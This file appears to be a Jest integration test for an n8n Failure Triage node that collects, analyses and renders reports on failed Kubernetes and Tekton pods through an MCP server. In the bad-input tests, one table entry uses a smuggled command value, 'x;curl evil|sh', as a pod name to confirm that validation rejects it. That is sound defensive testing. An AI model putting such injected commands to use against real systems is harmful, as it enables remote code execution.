import type { ICredentialDataDecryptedObject, IDataObject, INodeParameters } from 'n8n-workflow';
import { McpServerApi } from '../../credentials/McpServerApi.credentials';
import { FailureTriage } from '../../nodes/FailureTriage/FailureTriage.node';
import { fixtures } from '../fixtures/cluster';
import { startFixtureCluster, type FixtureCluster } from '../support/fixture-cluster';
import { startKubernetesMcpServer, type KubernetesMcpServer } from '../support/kubernetes-mcp-server';
import { unusedPort } from '../support/mcp-test-server';
import { runWorkflow, type WorkflowJson } from '../support/n8n-engine';

const nodeTypes = { 'n8n-nodes-mcp-devops.failureTriage': new FailureTriage() };
const credentialTypes = [new McpServerApi()];
const tekton = fixtures.tektonBuildFailure;

function triageWorkflow(parameters: INodeParameters, settings: IDataObject = {}, render?: INodeParameters): WorkflowJson {
	const nodes: WorkflowJson['nodes'] = [
		{ id: '1', name: 'Start', type: 'test.start', typeVersion: 1, position: [0, 0], parameters: {} },
		{
			id: '2',
			name: 'Triage',
			type: 'n8n-nodes-mcp-devops.failureTriage',
			typeVersion: 1,
			position: [200, 0],
			parameters,
			credentials: { mcpServerApi: { id: '1', name: 'cluster' } },
			...settings,
		},
	];
	const connections: WorkflowJson['connections'] = { Start: { main: [[{ node: 'Triage', type: 'main', index: 0 }]] } };
	if (render) {
		nodes.push({ id: '3', name: 'Render', type: 'n8n-nodes-mcp-devops.failureTriage', typeVersion: 1, position: [400, 0], parameters: { operation: 'render', ...render } });
		connections.Triage = { main: [[{ node: 'Render', type: 'main', index: 0 }]] };
	}
	return { nodes, connections };
}

describe('Failure Triage node in n8n’s engine', () => {
	let cluster: FixtureCluster;
	let server: KubernetesMcpServer;
	let credentials: Record<string, ICredentialDataDecryptedObject>;

	beforeAll(async () => {
		cluster = await startFixtureCluster();
		server = await startKubernetesMcpServer({ version: '0.0.67', kubeconfigPath: cluster.kubeconfigPath, env: { KUBE_CLIENT_QPS: '100', KUBE_CLIENT_BURST: '200' } });
		credentials = { mcpServerApi: { url: server.url, transport: 'auto', authentication: 'none', timeout: 15_000 } };
	});
	afterAll(async () => {
		await server?.stop();
		await cluster?.close();
	});

	const run = (workflow: WorkflowJson, inputItems: IDataObject[], creds = credentials) => runWorkflow({ workflow, nodeTypes, credentials: creds, credentialTypes, inputItems });

	it('collects and analyses each item, webhook items and CloudEvents included, then renders', async () => {
		const result = await run(triageWorkflow({ operation: 'collect', source: 'item' }, {}, { runUrl: 'https://dashboard.example/run/1' }), [
			{ namespace: tekton.namespace, pod_name: tekton.podName },
			{ headers: { 'content-type': 'application/json' }, query: {}, params: {}, body: { namespace: 'shop', pod_name: fixtures.imagePullBackOff.podName } },
			{
				headers: { 'ce-type': 'dev.tekton.event.taskrun.failed.v1' },
				body: { taskRun: { metadata: { name: 'build-and-test-run-abc12-build', namespace: 'ci' }, status: { podName: tekton.podName } } },
			},
		]);
		expect(result.status).toBe('success');
		const reports = result.outputOf('Triage').map((item) => item.json);
		expect(reports.map((r) => r.category)).toEqual(['compile_error', 'image_pull', 'compile_error']);
		expect(reports[0].fingerprint).toBe(reports[2].fingerprint);
		// The CloudEvent names the same pod as the first item: its collection is reused, not read again.
		expect(reports[0].reusedRecentCollection).toBeUndefined();
		expect(reports[2].reusedRecentCollection).toBe(true);
		expect(JSON.stringify(reports[0])).not.toContain('"log":"');
		const rendered = result.outputOf('Render').map((item) => item.json);
		expect(rendered[0].title).toMatch(/^\[build-and-test\/build\] Compile error: /);
		expect(rendered[0].body).toContain(`<!-- fingerprint: ${reports[0].fingerprint} -->`);
		expect(rendered[0].html).toContain('https://dashboard.example/run/1');
		expect(result.outputOf('Render').map((item) => item.pairedItem)).toEqual([{ item: 0 }, { item: 1 }, { item: 2 }]);
	});

	it('renders a report read from a node by name, with the run link made from the Tekton dashboard URL', async () => {
		const result = await run(
			triageWorkflow({ operation: 'collect', source: 'item' }, {}, { reportSource: 'node', reportNode: 'Triage', dashboardUrl: 'https://dashboard.example/' }),
			[{ namespace: tekton.namespace, pod_name: tekton.podName }],
		);
		const rendered = result.outputOf('Render')[0].json;
		expect(rendered.runUrl).toBe('https://dashboard.example/#/namespaces/ci/pipelineruns/build-and-test-run-abc12');
		expect(rendered.body).toContain('[open](https://dashboard.example/#/namespaces/ci/pipelineruns/build-and-test-run-abc12)');
		const missing = await run(triageWorkflow({ operation: 'collect', source: 'item' }, {}, { reportSource: 'node', reportNode: 'No such node' }), [{ namespace: tekton.namespace, pod_name: tekton.podName }]);
		expect(missing.errorOf('Render')?.message).toMatch(/^reportNode "No such node": /);
	});

	it('never shares a collection between two credentials on the same URL', async () => {
		const request = [{ namespace: tekton.namespace, pod_name: tekton.podName }];
		const workflow = triageWorkflow({ operation: 'collect', source: 'item', options: { reuseSeconds: 600 } });
		const withToken = (token: string) => ({ mcpServerApi: { ...credentials.mcpServerApi, authentication: 'bearer', token } });
		const first = await run(workflow, request, withToken('token-of-team-a'));
		const again = await run(workflow, request, withToken('token-of-team-a'));
		const other = await run(workflow, request, withToken('token-of-team-b'));
		expect(first.outputOf('Triage')[0].json.reusedRecentCollection).toBeUndefined();
		expect(again.outputOf('Triage')[0].json.reusedRecentCollection).toBe(true);
		expect(other.outputOf('Triage')[0].json.reusedRecentCollection).toBeUndefined();
	});

	describe('Allowed Namespaces', () => {
		const workflow = triageWorkflow({ operation: 'collect', source: 'item', options: { allowedNamespaces: 'ci, shop', reuseSeconds: 0 } }, { onError: 'continueErrorOutput' });

		it('refuses a failure in another namespace before reading anything, naming the namespace, with status 403', async () => {
			const before = cluster.requests.length;
			const result = await run(workflow, [{ namespace: 'kube-system', pod_name: 'coredns-5d78c9869d-abcde' }]);
			expect(result.outputOf('Triage', 0)).toEqual([]);
			expect(result.outputOf('Triage', 1)[0].json).toMatchObject({
				error: 'namespace "kube-system" is not in the allowed namespaces: expected one of ci, shop',
				details: { description: 'The namespace is outside Allowed Namespaces; nothing was read from the cluster.', field: 'namespace', status: 403 },
			});
			expect(cluster.requests.length).toBe(before);
		});

		it('collects a failure in a listed namespace, and the report is scoped to it', async () => {
			const result = await run(workflow, [{ namespace: tekton.namespace, pod_name: tekton.podName }]);
			expect(result.outputOf('Triage', 0)[0].json).toMatchObject({ category: 'compile_error', location: { namespace: tekton.namespace } });
		});

		it('answers a bad request with status 400 in the details', async () => {
			const result = await run(workflow, [{ namespace: 'ci', pod_name: 'build-pod', pipeline_run: 'build-run' }]);
			expect(result.outputOf('Triage', 1)[0].json).toMatchObject({ details: { field: 'pod_name, pipeline_run', status: 400 } });
		});
	});

	it('takes the pod from fields', async () => {
		const result = await run(triageWorkflow({ operation: 'collect', source: 'fields', namespace: 'data', podName: fixtures.oomKilled.podName }), [{}]);
		expect(result.outputOf('Triage')[0].json).toMatchObject({ category: 'oom_killed', facts: { exitCode: 137 } });
	});

	it('files what it knows when the MCP server is down', async () => {
		const port = await unusedPort();
		const down = { mcpServerApi: { url: `http://127.0.0.1:${port}/mcp`, transport: 'auto', authentication: 'none', timeout: 3000 } };
		const result = await run(triageWorkflow({ operation: 'collect', source: 'item' }), [{ namespace: 'ci', pod_name: 'build-pod', container_name: 'step-build' }], down);
		const report = result.outputOf('Triage')[0].json;
		expect(report).toMatchObject({ complete: false, category: 'unknown', location: { namespace: 'ci', pod: 'build-pod', container: 'step-build' } });
		expect((report.problems as IDataObject[])[0].what).toBe('the cluster (MCP server)');
		expect(String((report.problems as IDataObject[])[0].why)).toMatch(/connection refused/);
	});

	it('analyses a log given directly', async () => {
		const result = await run(
			triageWorkflow({ operation: 'analyse', log: '={{ $json.log }}', logContext: { container: 'step-test', pipelineTask: 'unit-tests' } }),
			[{ log: 'collecting...\nFAILED tests/test_api.py::test_create - AssertionError: 500 != 201\n=== 1 failed, 41 passed in 3.2s ===' }],
		);
		expect(result.outputOf('Triage')[0].json).toMatchObject({ category: 'test_failure', evidence: [{ line: 2 }] });
	});

	describe('bad input gets a clear error naming the field, and nothing is read', () => {
		it.each([
			[{ pod_name: 'p' }, 'namespace is missing: expected the namespace of the failed pod', 'namespace'],
			[{ namespace: 'ci' }, 'pod_name is missing', 'pod_name'],
			[{ namespace: 'ci', pod_name: 'x;curl evil|sh' }, 'pod_name "x;curl evil|sh" is not a valid Kubernetes name', 'pod_name'],
			[{ headers: { 'ce-type': 'dev.tekton.event.taskrun.started.v1' }, body: { taskRun: {} } }, 'is not a Tekton failure event', 'ce-type'],
			[{ headers: {}, body: 'this is not json' }, 'body is not JSON', 'body'],
		])('%j', async (input, message, field) => {
			const before = cluster.requests.length;
			const result = await run(triageWorkflow({ operation: 'collect', source: 'item' }, { onError: 'continueRegularOutput' }), [input as IDataObject]);
			const item = result.outputOf('Triage')[0].json;
			expect(item.error).toContain(message);
			expect((item.details as IDataObject).field).toBe(field);
			expect(cluster.requests.length).toBe(before);
		});

		it('sends bad items to the error output under "Continue (using error output)", good ones on', async () => {
			const result = await run(triageWorkflow({ operation: 'collect', source: 'item' }, { onError: 'continueErrorOutput' }), [
				{ namespace: 'ci', pod_name: 'bad;name' },
				{ namespace: tekton.namespace, pod_name: tekton.podName },
			]);
			expect(result.outputOf('Triage', 0).map((item) => item.json.category)).toEqual(['compile_error']);
			const errors = result.outputOf('Triage', 1);
			expect(errors).toHaveLength(1);
			expect(errors[0].json).toMatchObject({ details: { field: 'pod_name' }, error: expect.stringContaining('pod_name "bad;name" is not a valid Kubernetes name') });
		});

		it('stops the workflow with the message when Continue On Fail is off', async () => {
			const result = await run(triageWorkflow({ operation: 'collect', source: 'item' }), [{ namespace: 'Bad_NS', pod_name: 'p' }]);
			expect(result.status).toBe('error');
			expect(result.errorOf('Triage')?.message).toMatch(/^namespace "Bad_NS" is not a valid Kubernetes name/);
			expect(result.errorOf('Triage')?.description).toBe('Bad input in field "namespace"; nothing was read from the cluster.');
		});

		it('render refuses something that is not a report', async () => {
			const result = await run(triageWorkflow({ operation: 'render', report: '={{ $json }}' }), [{ hello: 'world' }]);
			expect(result.errorOf('Triage')?.message).toMatch(/^report is not a Failure Triage report/);
		});
	});
});
